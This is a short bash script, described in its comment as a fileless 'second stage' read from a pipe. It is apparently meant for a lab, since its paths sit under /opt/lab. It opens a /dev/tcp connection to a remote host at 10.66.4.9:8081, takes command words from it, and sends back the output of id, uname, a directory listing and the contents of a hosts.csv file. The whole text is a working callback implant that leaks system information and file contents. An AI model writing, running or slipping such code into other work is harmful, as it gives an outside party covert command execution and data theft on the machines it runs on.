# The second stage; bash reads it from a pipe, no file holds it. It can do only what is listed.
exec 3<>/dev/tcp/10.66.4.9/8081
while read -r word <&3; do
  case $word in
    who) id >&3 ;;
    where) uname -a >&3 ;;
    list) ls -la /opt/lab/site >&3 ;;
    read) cat /opt/lab/site/hosts.csv >&3 ;;
  esac
done
